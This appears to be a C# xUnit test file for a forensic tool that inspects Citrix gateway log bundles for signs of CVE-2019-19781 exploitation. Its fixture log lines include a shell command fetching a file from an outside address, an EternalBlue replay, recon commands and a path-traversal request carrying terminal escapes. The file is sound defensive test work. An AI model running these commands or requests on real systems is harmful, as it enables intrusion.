using System;
using System.IO;
using System.Linq;
using CitrixOps.Investigation;
using CitrixOps.Logs;
using CitrixOps.SampleCases;
using Xunit;

namespace CitrixOps.Tests.Investigation;

/// <summary>The main job on whole bundles.</summary>
public sealed class InvestigatorTests : IDisposable
{
    private readonly TemporaryFolder _folder = new();
    private readonly Problems _problems = new();

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData(CaseKind.Clean, InvestigationVerdict.NoTrace)]
    [InlineData(CaseKind.Attempted, InvestigationVerdict.Attempted)]
    [InlineData(CaseKind.Compromised, InvestigationVerdict.Compromised)]
    public void Logs_that_cover_the_window_get_a_verdict(CaseKind kind, InvestigationVerdict expected)
    {
        var result = Search(Bundle(kind));

        Assert.Equal(expected, result.Verdict);
        Assert.All(result.Coverage, c => Assert.Equal(CoverageAnswer.True, c.Covers));
        Assert.Equal(_problems.Findings.Count, result.FindingCount);
        Assert.Empty(_problems.Reported);
    }

    [Fact]
    public void A_clean_bundle_has_no_finding_at_all() => Assert.Empty(Search(Bundle(CaseKind.Clean)).Findings);

    [Theory]
    [InlineData(CaseKind.Clean)]
    [InlineData(CaseKind.Attempted)]
    public void Without_coverage_there_is_neither_NoTrace_nor_Attempted(CaseKind kind)
    {
        var before = Search(Bundle(kind), new DateTimeOffset(2019, 12, 1, 0, 0, 0, TimeSpan.Zero));

        Assert.Equal(InvestigationVerdict.Inconclusive, before.Verdict);
        Assert.Contains(before.Reasons, r => r.Contains("httpaccess.log begins 2019-12-19", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("var/log/httpaccess.log.3.gz", "gap")]
    [InlineData("var/log/bash.log.0.gz", "begins")]
    public void A_missing_rotation_file_is_a_hole(string path, string reason)
    {
        var bundle = GatewayCase.Build(new CaseOptions()).Remove(path);

        var result = Search(bundle.WriteTarGz(_folder.Path, "b"));

        Assert.Equal(InvestigationVerdict.Inconclusive, result.Verdict);
        Assert.Contains(result.Reasons, r => r.Contains(reason, StringComparison.Ordinal));
    }

    [Fact]
    public void A_missing_kind_of_log_is_said()
    {
        var bundle = GatewayCase.Build(new CaseOptions());
        foreach (var file in bundle.Files.Where(f => f.Path.StartsWith("var/log/cron", StringComparison.Ordinal)).ToList())
        {
            bundle.Remove(file.Path);
        }

        var result = Search(bundle.WriteTarGz(_folder.Path, "b"));

        Assert.Equal(InvestigationVerdict.Inconclusive, result.Verdict);
        Assert.Contains(result.Reasons, r => r.Contains("no cron log", StringComparison.Ordinal));
    }

    [Fact]
    public void A_cut_log_is_a_hole_and_its_findings_count()
    {
        var bundle = GatewayCase.Build(new CaseOptions { Kind = CaseKind.Attempted });
        var file = bundle.Files.Single(f => f.Path == "var/log/httpaccess.log.2.gz");
        bundle.Add(file.Path, file.Content[..(file.Content.Length * 3 / 4)], file.Modified);

        var result = Search(bundle.WriteTarGz(_folder.Path, "b"));

        Assert.Equal(InvestigationVerdict.Inconclusive, result.Verdict);
        Assert.Contains("GzipTruncated", _problems.Ids);
        Assert.Contains(result.Coverage, c => c.Kind == "httpaccess.log" && c.Unreadable.Count == 1);
        Assert.NotEqual(0, result.FindingCount);
    }

    [Fact]
    public void Folder_bundle_and_zip_give_the_same_findings()
    {
        var bundle = GatewayCase.Build(new CaseOptions { Kind = CaseKind.Compromised });
        var packed = Search(bundle.WriteTarGz(_folder.Path, new CaseOptions().RootName));
        var folder = Search(bundle.WriteFolder(Path.Combine(_folder.Path, "f")));

        Assert.Equal(packed.Verdict, folder.Verdict);
        Assert.Equal(packed.Findings.Select(Key).Order(), folder.Findings.Select(Key).Order());
        static string Key(Finding f) => $"{f.Id} {f.Time:O} {f.TimeTrust} {f.LineNumber} {f.Offset} {f.Excerpt}";
    }

    [Fact]
    public void Two_runs_give_the_same_order()
    {
        var path = Bundle(CaseKind.Compromised);

        Assert.Equal(Search(path).Findings.Select(f => f.Id), Search(path).Findings.Select(f => f.Id));
    }

    [Fact]
    public void A_finding_says_where_and_when()
    {
        var finding = Search(Bundle(CaseKind.Compromised)).Findings.Single(f => f.IndicatorId == "shitrix-template-rendered");

        Assert.Equal(new DateTimeOffset(2020, 1, 12, 2, 14, 9, TimeSpan.Zero), finding.Time);
        Assert.Equal("12/Jan/2020:03:14:09 +0100", finding.LoggedTime);
        Assert.Equal(TimeTrust.Stated, finding.TimeTrust);
        Assert.Equal("198.51.100.77", finding.SourceAddress);
        Assert.Equal("gw-raadhuis", finding.Gateway);
        Assert.Equal("192.0.2.10", finding.Node);
        Assert.EndsWith("/var/log/httpaccess.log.2.gz", finding.Member);
        Assert.True(finding.LineNumber > 0 && finding.Offset > 0);
    }

    [Fact]
    public void Raw_child_output_takes_its_neighbours_time()
    {
        var finding = Search(Bundle(CaseKind.Compromised)).Findings.First(f => f.IndicatorId == "httperror-linux-recon");

        Assert.Equal(TimeTrust.Neighbour, finding.TimeTrust);
        Assert.NotNull(finding.Time);
        Assert.Null(finding.LoggedTime);
    }

    [Fact]
    public void Syslog_times_use_the_appliances_zone_and_the_files_year()
    {
        var finding = Search(Bundle(CaseKind.Compromised)).Findings.Single(f => f.IndicatorId == "shell-notrobin");

        Assert.Equal(new DateTimeOffset(2020, 1, 12, 2, 15, 17, TimeSpan.Zero), finding.Time);
        Assert.Equal("Jan 12 03:15:17", finding.LoggedTime);
        Assert.Equal(TimeTrust.YearInferred, finding.TimeTrust);
    }

    [Fact]
    public void A_copied_log_takes_its_year_from_the_logs_beside_it()
    {
        var bundle = GatewayCase.Build(new CaseOptions { Kind = CaseKind.Compromised });
        var folder = Path.Combine(_folder.Path, "copied");
        foreach (var file in bundle.Files.Where(f => f.Path.StartsWith("var/log/", StringComparison.Ordinal)))
        {
            var path = Path.Combine(folder, Path.GetFileName(file.Path));
            Directory.CreateDirectory(folder);
            File.WriteAllBytes(path, file.Content);
            File.SetLastWriteTimeUtc(path, new DateTime(2026, 11, 24, 0, 0, 0, DateTimeKind.Utc));
        }

        var result = Search(folder, zone: "Europe/Amsterdam");

        Assert.Equal(InvestigationVerdict.Compromised, result.Verdict);
        Assert.Equal(2020, result.Findings.Single(f => f.IndicatorId == "shell-notrobin").Time!.Value.Year);
    }

    [Fact]
    public void Script_then_template_from_one_address_is_correlated()
    {
        var result = Search(Bundle(CaseKind.Compromised));

        Assert.Equal("198.51.100.77", result.Findings.Single(f => f.IndicatorId == "shitrix-two-steps").SourceAddress);
        Assert.True(result.Chains[0].Succeeded);
        Assert.Equal("198.51.100.77", result.Chains[0].SourceAddress);
    }

    [Fact]
    public void Matches_outside_the_window_are_counted_and_left_out()
    {
        var result = Search(Bundle(CaseKind.Attempted), new DateTimeOffset(2020, 1, 18, 0, 0, 0, TimeSpan.Zero), new DateTimeOffset(2020, 1, 20, 0, 0, 0, TimeSpan.Zero));

        Assert.Equal(InvestigationVerdict.NoTrace, result.Verdict);
        Assert.Contains(result.Excluded, e => e.Count > 10);
    }

    [Fact]
    public void Without_a_start_the_window_begins_with_the_known_exploitation()
    {
        var options = new InvestigationOptions { Cve = ["CVE-2019-19781"] };

        var result = Shipped.Search(_problems, options, Bundle(CaseKind.Clean)).Single();

        Assert.Equal(new DateTimeOffset(2019, 12, 24, 0, 0, 0, TimeSpan.Zero), result.Since);
        Assert.Equal(new CaseOptions().CollectedAt, result.Until);
        Assert.Equal(InvestigationVerdict.NoTrace, result.Verdict);
    }

    [Fact]
    public void A_lead_is_shown_and_carries_no_verdict()
    {
        var bundle = GatewayCase.Build(new CaseOptions());
        var file = bundle.Files.Single(f => f.Path == "var/log/bash.log");
        bundle.Add(file.Path, bundle.Text(file.Path) + "Jan 16 09:00:00 <local7.notice> gw-raadhuis bash[7]: root on /dev/pts/0 shell_command=\"fetch http://185.178.45.221/x\"\n", file.Modified);

        var result = Search(bundle.WriteTarGz(_folder.Path, "b"));

        Assert.Equal("shell-known-addresses", Assert.Single(result.Findings).IndicatorId);
        Assert.Equal(InvestigationVerdict.NoTrace, result.Verdict);
        Assert.Contains(result.Reasons, r => r.StartsWith("1 lead to follow up", StringComparison.Ordinal));
    }

    [Fact]
    public void One_supporting_fact_is_inconclusive_and_two_are_a_break_in()
    {
        const string First = "Jan 16 09:00:00 <local7.notice> gw-raadhuis bash[7]: root on (null) shell_command=\"python eternalblue.replay 10.0.0.5\"\n";
        const string Second = "Jan 16 09:00:00 <local7.notice> gw-raadhuis bash[7]: nobody on (null) shell_command=\"uname -a\"\n";

        Assert.Equal(InvestigationVerdict.Inconclusive, With(First + First).Verdict);
        Assert.Equal(InvestigationVerdict.Compromised, With(First + Second).Verdict);

        CitrixOps.Investigation.Investigation With(string lines)
        {
            var bundle = GatewayCase.Build(new CaseOptions());
            var file = bundle.Files.Single(f => f.Path == "var/log/bash.log");
            return Search(bundle.Add(file.Path, bundle.Text(file.Path) + lines, file.Modified).WriteTarGz(_folder.Path, "b"));
        }
    }

    [Theory]
    [InlineData("CVE-2019-18177")]
    [InlineData("CVE-2019-1978")]
    public void A_cve_that_nothing_is_known_of_is_never_NoTrace(string cve)
    {
        var options = new InvestigationOptions { Since = Window().Since, Until = Window().Until, Cve = [cve] };

        var result = Shipped.Search(_problems, options, Bundle(CaseKind.Clean)).Single();

        Assert.Equal(InvestigationVerdict.Inconclusive, result.Verdict);
        Assert.Contains(result.Reasons, r => r.Contains(cve, StringComparison.Ordinal));
        Assert.Equal(["CveNotCovered"], _problems.Ids);
    }

    [Fact]
    public void The_nodes_of_a_pair_are_one_gateway()
    {
        var first = GatewayCase.Build(new CaseOptions { HostName = "gw-1" }).WriteTarGz(_folder.Path, "collector_P_192.0.2.10_24Jan2020_09_15");
        var second = GatewayCase.Build(new CaseOptions { HostName = "gw-2", Nsip = "192.0.2.11", Peer = "192.0.2.10", Kind = CaseKind.Compromised }).WriteTarGz(_folder.Path, "collector_S_192.0.2.11_24Jan2020_09_20");

        var result = Shipped.Search(_problems, Window(), first, second).Single();

        Assert.Equal("gw-1", result.Gateway);
        Assert.Equal(InvestigationVerdict.Compromised, result.Verdict);
        Assert.Equal(["192.0.2.10", "192.0.2.11"], result.Coverage.Select(c => c.Node).Distinct());
    }

    [Fact]
    public void Hostile_lines_reach_no_terminal()
    {
        var line = "192.0.2.4 - - [12/Jan/2020:03:14:07 +0100] \"GET /vpn/../vpns/\u001b]0;x\u0007 HTTP/1.1\" 200 1 \"-\" \"\u009b31m\" passwd=geheim\n";
        var path = _folder.File("httpaccess.log", line);

        var finding = Search(path).Findings.First();

        Assert.DoesNotContain(finding.Excerpt, char.IsControl);
        Assert.DoesNotContain("geheim", finding.Excerpt);
    }

    private static InvestigationOptions Window(DateTimeOffset? since = null, DateTimeOffset? until = null, string? zone = null) => new()
    {
        Since = since ?? new DateTimeOffset(2019, 12, 24, 0, 0, 0, TimeSpan.Zero),
        Until = until ?? new DateTimeOffset(2020, 1, 17, 0, 0, 0, TimeSpan.Zero),
        Cve = ["CVE-2019-19781"],
        TimeZone = zone,
    };

    private CitrixOps.Investigation.Investigation Search(string path, DateTimeOffset? since = null, DateTimeOffset? until = null, string? zone = null) =>
        Shipped.Search(_problems, Window(since, until, zone), path).Single();

    private string Bundle(CaseKind kind)
    {
        var options = new CaseOptions { Kind = kind };
        return GatewayCase.Build(options).WriteTarGz(_folder.Path, options.RootName);
    }
}
